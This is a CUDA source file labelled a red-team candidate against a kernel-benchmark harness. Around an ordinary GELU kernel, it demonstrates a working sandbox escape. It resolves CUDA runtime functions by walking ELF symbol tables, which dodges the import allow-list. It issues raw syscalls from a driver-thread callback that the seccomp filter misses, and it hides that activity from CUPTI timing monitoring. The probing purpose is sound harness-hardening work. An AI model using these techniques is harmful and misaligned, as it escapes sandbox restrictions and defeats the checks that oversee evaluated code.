/* EXPLOIT: a cudaLaunchHostFunc callback runs on a CUDA driver thread, which the runner's seccomp filter (installed without TSYNC after the driver's threads started) may not cover: trapped system calls made there */
/* red-team candidate for KernelFleet's CUDA harness (/tmp/rt_cuda); never a real kernel. */
#include <cuda_runtime.h>
#include <cuda_bf16.h>
#include <elf.h>
#include <stdint.h>
#include <string.h>

#include "kf_candidate.h"
/* ---- an honest f32 tanh-GELU, one bf16 element per thread, grid-stride:
 * the same kernel as gelu_plain.cu (the control), so a speedup beyond that
 * control's is what the trick bought. */
__device__ __forceinline__ float gelu_f(float v) {
  const float k0 = 0.7978845608028654f;
  return 0.5f * v * (1.0f + tanhf(k0 * (v + 0.044715f * v * v * v)));
}
__global__ void gelu_k(const __nv_bfloat16 *__restrict__ x,
                       __nv_bfloat16 *__restrict__ y, int64_t n) {
  for (int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (int64_t)gridDim.x * blockDim.x)
    y[i] = __float2bfloat16(gelu_f(__bfloat162float(x[i])));
}
static int gelu_args_ok(const kf_args *a, int64_t *n) {
  if (a->abi_version != KF_ABI_VERSION || a->n_inputs != 1 ||
      a->n_outputs != 1 || a->n_params != 2)
    return 0;
  *n = a->params[0] * a->params[1];
  return *n > 0;
}
static unsigned gelu_blocks(int64_t n) {
  int64_t want = (n + 255) / 256;
  return (unsigned)(want < 65536 ? want : 65536);
}
/* ---- functions found at run time, not imported (the link check sees only
 * the allow-listed imports): the ELF image holding `inside`, found by
 * walking back page by page to its header, then its dynamic symbols. */
static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}
static uintptr_t elf_base(const void *inside) {
  uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
  for (int i = 0; i < (1 << 17); i++, p -= 4096)
    if (!memcmp((const void *)p, ELFMAG, SELFMAG)) return p;
  return 0;
}
/* load bias of the image whose header is at p */
static uintptr_t elf_bias(uintptr_t p) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_LOAD && ph[i].p_offset == 0)
      return p - (ph[i].p_vaddr & ~(uintptr_t)4095);
  return p;
}
static const Elf64_Dyn *elf_dyn(uintptr_t p, uintptr_t bias) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_DYNAMIC)
      return (const Elf64_Dyn *)(bias + ph[i].p_vaddr);
  return 0;
}
static void *resolve(const void *inside, const char *name) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Dyn *dyn = elf_dyn(p, bias);
  if (!dyn) return 0;
  const Elf64_Sym *sym = 0;
  const char *str = 0;
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    if (v < bias) v += bias; /* not relocated in place on some loaders */
    if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym *)v;
    if (dyn->d_tag == DT_STRTAB) str = (const char *)v;
  }
  if (!sym || !str) return 0;
  for (const Elf64_Sym *s = sym + 1; (const char *)s < str; s++)
    if (s->st_name && s->st_value && s->st_shndx != SHN_UNDEF &&
        same(str + s->st_name, name))
      return (void *)(bias + s->st_value);
  return 0;
}
typedef cudaError_t (*launch_fn_t)(const void *, dim3, dim3, void **, size_t,
                                   cudaStream_t);
/* a function of libcudart, found from the one import we may have */
static void *cudart(const char *name) {
  return resolve((const void *)(launch_fn_t)&cudaLaunchKernel, name);
}
/* raw system calls: libc's wrappers are not importable */
static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(n), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return r;
}
/* A host function enqueued with cudaLaunchHostFunc (found at run time)
 * runs on a thread of the CUDA driver.  The runner installs its seccomp
 * filters without TSYNC, after the driver started its threads, so that
 * thread may carry no filter: there it makes two calls the run filter
 * traps -- getppid (110) and socket(AF_UNIX) (41).  The host function runs
 * on a non-blocking stream of its own (no GPU activity for CUPTI to see,
 * and it does not wait for the timing gate). */
typedef cudaError_t (*hostfn_launch_t)(cudaStream_t, cudaHostFn_t, void *);
typedef cudaError_t (*screate_t)(cudaStream_t *, unsigned int);
typedef cudaError_t (*ssync_t)(cudaStream_t);
typedef cudaError_t (*sdestroy_t)(cudaStream_t);

static void CUDART_CB unfiltered(void *p) {
  long *r = (long *)p;
  r[0] = sys3(110 /* getppid */, 0, 0, 0);
  r[1] = sys3(41 /* socket */, 1 /* AF_UNIX */, 1 /* SOCK_STREAM */, 0);
  if (r[1] >= 0) sys3(3 /* close */, r[1], 0, 0);
}

extern "C" int kf_launch(const kf_args *a) {
  int64_t n;
  if (!gelu_args_ok(a, &n)) return 1;
  hostfn_launch_t hf = (hostfn_launch_t)cudart("cudaLaunchHostFunc");
  screate_t sc = (screate_t)cudart("cudaStreamCreateWithFlags");
  ssync_t ss = (ssync_t)cudart("cudaStreamSynchronize");
  sdestroy_t sd = (sdestroy_t)cudart("cudaStreamDestroy");
  if (!hf || !sc || !ss || !sd) return 43; /* not found: inconclusive */
  cudaStream_t side = 0;
  if (sc(&side, cudaStreamNonBlocking) != cudaSuccess) return 44;
  long res[2] = {-1, -1};
  if (hf(side, unfiltered, res) != cudaSuccess) return 45;
  if (ss(side) != cudaSuccess) return 46;
  sd(side);
  /* the real work only when a trapped call went through unfiltered:
   * `ok` is the proof of the hole; rc 7 means the thread was filtered
   * (yet not killed: the filter answered with an errno) */
  if (!(res[0] > 0 || res[1] >= 0)) return 7;
  gelu_k<<<gelu_blocks(n), 256, 0, (cudaStream_t)a->stream>>>(
      (const __nv_bfloat16 *)a->inputs[0].data,
      (__nv_bfloat16 *)a->outputs[0].data, n);
  return cudaGetLastError() != cudaSuccess ? 1 : 0;
}
